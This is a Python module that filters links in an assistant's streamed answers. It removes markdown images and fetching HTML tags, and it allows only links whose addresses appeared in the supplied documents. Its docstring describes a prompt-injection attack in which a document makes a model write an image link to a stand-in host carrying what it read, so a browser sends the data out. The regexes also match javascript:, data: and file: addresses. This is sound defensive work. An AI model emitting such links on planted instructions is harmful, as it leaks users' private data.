"""Links in answers that rest on documents: only those that somebody gave, and never an image.

A document can tell a model to write ``![](https://elsewhere/?q=…)`` with what it has just read or
been asked; a browser that draws the answer fetches that address, and the text has left the house.
(Greshake et al. 2023, "Not what you've signed up for"; OWASP LLM05, improper output handling.) What
a model writes cannot be foreseen, so what may be shown is decided here: an image becomes a link,
and a link stays one only if its address stands, whole, in what the model was given.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

REMOVED: Final = "(link removed)"
"""Shown instead of an address that stood there bare."""

MAX_HELD: Final = 2_000
"""Characters that are held back until it is known what they are; no honest address is longer."""

_ADDRESS: Final = (
    r"(?:(?:https?|ftp):/|www\.|(?:javascript|vbscript|data|file):(?=[^\s])|//(?=[\w-]+\.))"
    r"[^\s<>\"'`\[\]|\\]*"
)
_WORDS: Final = r"[^\[\]\n]{0,300}"
_TARGET: Final = r"<?([^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*){0,8})>?"
_LINK: Final = rf"\[({_WORDS})\]\(\s{{0,8}}{_TARGET}(?:\s[^()\n]{{0,300}})?\)"
_FETCHED: Final = (
    r"(?:img|image|iframe|script|link|object|embed|video|audio|source|svg|style|meta|base|form|"
    r"input)"
)
"""HTML elements that fetch an address when they are drawn."""

_FOUND = re.compile(
    rf"(?P<image>!+(?=\[))|(?P<link>{_LINK})|(?P<tag><\s{{0,4}}{_FETCHED}\b[^>]*>?)"
    rf"|(?P<address>{_ADDRESS})",
    re.IGNORECASE,
)
_LINKS = re.compile(_LINK)
_COMPLETE = re.compile(rf"{_LINK}|<\s{{0,4}}{_FETCHED}\b[^>]*>", re.IGNORECASE)
_ADDRESSES = re.compile(_ADDRESS, re.IGNORECASE)
_UNFINISHED = re.compile(
    # Every beginning of what `_FOUND` finds, up to the end of what has come.
    rf"(?:!+|!*\[{_WORDS}(?:\](?:\((?:[^()\n]|\([^()\n]*\))*+(?:\([^()\n]*)?)?)?"
    r"|h(?:t(?:t(?:p(?:s?(?::/?)?)?)?)?)?|f(?:t(?:p:?)?|i(?:l(?:e:?)?)?)?|w{1,3}|//?[\w-]*"
    r"|j(?:a(?:v(?:a(?:s(?:c(?:r(?:i(?:p(?:t:?)?)?)?)?)?)?)?)?)?"
    r"|v(?:b(?:s(?:c(?:r(?:i(?:p(?:t:?)?)?)?)?)?)?)?|d(?:a(?:t(?:a:?)?)?)?"
    rf"|<\s{{0,4}}(?:[a-z]{{0,8}}|{_FETCHED}\b[^>]*)|{_ADDRESS})$",
    re.IGNORECASE,
)


class LinkGuard:
    """Takes an answer in pieces and gives back what may be shown of it.

    Args:
        given: Everything the model was given; addresses that stand in it may be shown.

    Attributes:
        removed: Links and addresses that nobody had given.
    """

    def __init__(self, given: Iterable[str]) -> None:
        self._known: set[str] = set()
        for text in given:
            self._known.update(_whole(found) for found in _ADDRESSES.findall(text))
            self._known.update(found[1] for found in _LINKS.findall(text))
        self._pending = ""
        self.removed = 0

    def feed(self, piece: str) -> str:
        """Take the next piece; what may become a link is held back until that is known."""
        self._pending += piece
        held = _held_from(self._pending)
        if len(self._pending) - held > MAX_HELD:
            return self.close()
        ready, self._pending = self._pending[:held], self._pending[held:]
        return self._cleared(ready)

    def close(self) -> str:
        """The answer is over; give back what was held."""
        ready, self._pending = self._pending, ""
        return self._cleared(ready)

    def _cleared(self, text: str) -> str:
        return _FOUND.sub(self._shown, text)

    def _shown(self, found: re.Match[str]) -> str:
        if found["image"]:
            return ""
        if found["link"]:
            words, target = found[3], found[4]  # the groups of `_LINK`
            if target in self._known or _whole(target) in self._known:
                return found.group()
            self.removed += 1
            # A mark left at the end would make an image of a link that follows.
            return self._cleared(words).rstrip("!")
        if found["tag"]:
            self.removed += 1
            return " "
        address = _whole(found.group())
        if address in self._known:
            return found.group()
        self.removed += 1
        return REMOVED + found.group()[len(address) :]


def _held_from(text: str) -> int:
    """Where something begins that may go on in the next piece; the end when nothing does."""
    at = 0
    while begun := _UNFINISHED.search(text, at):
        within = (one for one in _COMPLETE.finditer(text, at) if one.start() < begun.start())
        around = next((one for one in within if begun.start() < one.end()), None)
        if around is None:
            return begun.start()
        at = around.end()
    return len(text)


def _whole(address: str) -> str:
    """The address without the punctuation of the sentence around it."""
    bare = address.rstrip(".,;:!?*_~")
    while bare.endswith(")") and bare.count(")") > bare.count("("):
        bare = bare[:-1].rstrip(".,;:!?*_~")
    return bare
